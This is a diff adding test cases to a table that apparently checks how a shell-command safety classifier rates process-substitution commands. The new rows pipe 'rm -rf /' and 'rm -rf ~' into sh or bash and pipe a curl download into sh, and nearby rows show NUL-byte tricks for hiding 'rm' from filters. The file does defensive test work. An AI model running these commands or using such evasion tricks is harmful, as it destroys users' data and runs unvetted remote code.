@@ -58,6 +58,8 @@ ROWS = [
     ("max", S, "ls | tee >(wc -l)"),
     ("max", S, "echo hi | tee >(grep h) >(wc -c)"),
     ("max", R, "curl -s https://example.com/f.tgz | tee >(sha256sum) > f.tgz"),
+    ("min", B, "{ echo 'rm -rf /'; } > >(sh)"), ("min", B, "(echo 'rm -rf ~') > >(bash)"),
+    ("min", D, "{ curl -s https://get.example.com; } > >(sh)"), ("max", S, "{ ls; } > >(wc -l)"),
     # --- characters (Evasion): bash drops NUL bytes, so `r\0m` is `rm`; other controls and
     # look-alike spaces hide what runs (at least dangerous); inside quotes a no-break space is text
     ("min", B, "r\x00m -rf /"),
